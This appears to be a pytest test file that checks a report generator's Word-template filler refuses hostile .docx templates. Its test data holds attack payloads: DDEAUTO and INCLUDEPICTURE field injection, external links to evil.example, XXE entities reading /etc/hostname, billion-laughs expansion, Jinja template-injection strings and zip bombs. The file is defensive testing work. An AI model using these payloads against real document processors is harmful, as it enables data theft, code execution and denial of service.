"""Templates of the report that came by mail: no way to files, to the network or to gigabytes."""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import docx
import pytest
from scenarios import scenario

from liancun_geo.errors import DataError
from liancun_geo.output.paper import Report, gather, template
from liancun_geo.output.paper.word import fill_word

DAY = datetime(2026, 11, 22, tzinfo=UTC)
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPACES = f'xmlns:r="{KINDS}"'
RELATIONS = "word/_rels/document.xml.rels"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478da63f8"
    "ffff3f0005fe02fe0def46b80000000049454e44ae426082"
)
LAUGHS = "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefg", "bcdefgh", strict=True)
)
Parts = dict[str, bytes]


@pytest.fixture(scope="module")
def report() -> Report:
    return gather(scenario(), "zh", DAY)


@pytest.fixture(scope="module")
def shipped() -> Parts:
    with zipfile.ZipFile(io.BytesIO(template("zh"))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Parts) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def related(parts: Parts, kind: str, target: str, part: str = RELATIONS) -> Parts:
    more = (
        f'<Relationship Id="rIdX" Type="{KINDS}/{kind}" Target="{target}" TargetMode="External"/>'
    )
    whole = parts.get(part, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                            b'relationships"></Relationships>')  # fmt: skip
    end = b"</Relationships>"
    return parts | {part: whole.replace(end, more.encode() + end)}


def with_body(parts: Parts, markup: str) -> Parts:
    body = parts["word/document.xml"]
    at = body.rfind(b"<w:sectPr")
    return parts | {"word/document.xml": body[:at] + markup.encode() + body[at:]}


def saying(parts: Parts, text: str) -> Parts:
    return with_body(parts, f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>')


def declaring(parts: Parts, declared: str, used: str) -> Parts:
    body = saying(parts, used)["word/document.xml"]
    begun = re.sub(rb"^(<\?xml[^>]*\?>)", lambda m: m.group(0) + declared.encode(), body)
    return parts | {"word/document.xml": begun}


def filled(parts: Parts | bytes, report: Report, folder: Path) -> Path:
    own, made = folder / "own.docx", folder / "made.docx"
    own.write_bytes(parts if isinstance(parts, bytes) else packed(parts))
    pictures = {"": PIXEL, report.townships[0].code: PIXEL}
    fill_word(report, made, DAY, "zh", pictures, template_file=own)
    return made


def refusal(parts: Parts | bytes, report: Report, folder: Path) -> str:
    with pytest.raises(DataError) as told:
        filled(parts, report, folder)
    assert not (folder / "made.docx").exists()
    assert all(fault.text("zh") and fault.text("en") for fault in told.value.faults)
    return told.value.faults[0].key


@pytest.mark.parametrize(
    "change",
    [
        lambda p: related(p, "image", "http://evil.example/x.png"),
        lambda p: related(p, "oleObject", "file:////evil.example/x.xls"),
        lambda p: related(p, "aFChunk", "http://evil.example/x.html"),
        lambda p: related(p, "mailMergeSource", "x.mdb", "word/_rels/settings.xml.rels"),
        lambda p: with_body(p, "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\ \"/k\" '/></w:p>"),
        lambda p: with_body(
            p,
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPIC'
            '</w:instrText></w:r><w:r><w:instrText>TURE "http://evil.example/"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
        lambda p: with_body(
            p,
            '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml">'
            '<v:fill src="//evil.example/x.png"/></v:rect></w:pict></w:r></w:p>',
        ),
        lambda p: saying(
            p,
            "{{ '</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO x\"/><w:r><w:t>'|safe }}".replace(
                "<", "&lt;"
            ),
        ),
        lambda p: p | {"word/vbaProject.bin": b"x"},
        lambda p: p | {"word/webextensions/taskpanes.xml": b"<x/>"},
    ],
)
def test_what_is_fetched_or_run_unasked_is_refused(
    tmp_path: Path, report: Report, shipped: Parts, change: Callable[[Parts], Parts]
) -> None:
    assert refusal(change(shipped), report, tmp_path) == "paper.template_reaches_out"


def test_links_to_click_and_page_numbers_stay(
    tmp_path: Path, report: Report, shipped: Parts
) -> None:
    linked = related(shipped, "hyperlink", "http://county.example/")
    numbered = with_body(linked, '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>')
    made = filled(numbered, report, tmp_path)
    with zipfile.ZipFile(made) as archive:
        assert b"county.example" in archive.read(RELATIONS)


def test_the_tie_to_another_template_goes(tmp_path: Path, report: Report, shipped: Parts) -> None:
    tied = related(
        shipped, "attachedTemplate", "http://evil.example/", "word/_rels/settings.xml.rels"
    )
    first = re.sub(
        rb"(<w:settings[^>]*>)",
        lambda m: m.group(0) + f'<w:attachedTemplate r:id="rIdX" {SPACES}/>'.encode(),
        shipped["word/settings.xml"],
    )
    made = filled(tied | {"word/settings.xml": first}, report, tmp_path)
    with zipfile.ZipFile(made) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"evil.example" not in whole and b"attachedTemplate" not in whole
    docx.Document(str(made))


@pytest.mark.parametrize(
    ("declared", "used"),
    [
        ('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"),
        ('<!DOCTYPE w SYSTEM "http://evil.example/x.dtd">', "x"),
        (f'<!DOCTYPE w [<!ENTITY a "lol">{LAUGHS}]>', "&h;"),
    ],
)
def test_entities_are_refused(
    tmp_path: Path, report: Report, shipped: Parts, declared: str, used: str
) -> None:
    assert refusal(declaring(shipped, declared, used), report, tmp_path) == "paper.bad_template"


@pytest.mark.parametrize(
    "text",
    [
        "{{ overview_map.tpl.save('pwned.docx') }}",
        "{{ townships[0].map.tpl.new_subdoc('/etc/hostname') }}",
        "{{ townships[0].map._markup.tpl.save('pwned.docx') }}",
        "{{ ('a' * 3000000000)|length }}",
        "{{ (3000000000 * [1])|length }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ '%3000000000d' % 1 }}",
        "{{ '%3000000000d'|format(1) }}",
        "{{ '{:3000000000d}'.format(1) }}",
        "{{ 'a'.ljust(3000000000)|length }}",
        "{{ 'a'|center(3000000000)|length }}",
        "{{ townships[0].map.tpl }}",
    ],
)
def test_a_template_only_lays_out(
    tmp_path: Path,
    report: Report,
    shipped: Parts,
    text: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    assert refusal(saying(shipped, text), report, tmp_path) == "paper.bad_template_field"
    assert not (tmp_path / "pwned.docx").exists()


def test_pictures_are_put_in(tmp_path: Path, report: Report, shipped: Parts) -> None:
    made = filled(shipped, report, tmp_path)
    assert len(docx.Document(str(made)).inline_shapes) == 2


def test_bombs_are_refused(tmp_path: Path, report: Report, shipped: Parts) -> None:
    paragraphs = "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 400_000
    for parts in (
        with_body(shipped, paragraphs),
        shipped | {"word/media/x.png": b"\0" * 150_000_000},
        shipped | {f"word/media/{number}.png": b"" for number in range(6_000)},
    ):
        assert refusal(parts, report, tmp_path) == "paper.template_too_large"


def test_damaged_archives_are_told(tmp_path: Path, report: Report, shipped: Parts) -> None:
    whole = bytearray(packed(shipped))
    directory = whole.find(b"PK\x01\x02")
    for at, value in ((6, 200), (10, 99), (8, 1)):
        damaged = bytearray(whole)
        damaged[directory + at] = value
        assert refusal(bytes(damaged), report, tmp_path) == "paper.bad_template"
    for part in ("[Content_Types].xml", "_rels/.rels", "docProps/core.xml"):
        assert refusal(shipped | {part: b"<x/>"}, report, tmp_path).startswith("paper.bad_template")


def test_what_is_no_file_is_told(tmp_path: Path, report: Report) -> None:
    os.mkfifo(tmp_path / "pipe.docx")
    for path in (tmp_path, tmp_path / "pipe.docx", Path("/dev/zero"), Path("a\0b")):
        with pytest.raises(DataError) as told:
            fill_word(report, tmp_path / "made.docx", DAY, "zh", {}, template_file=path)
        assert told.value.faults[0].key == "paper.bad_template"
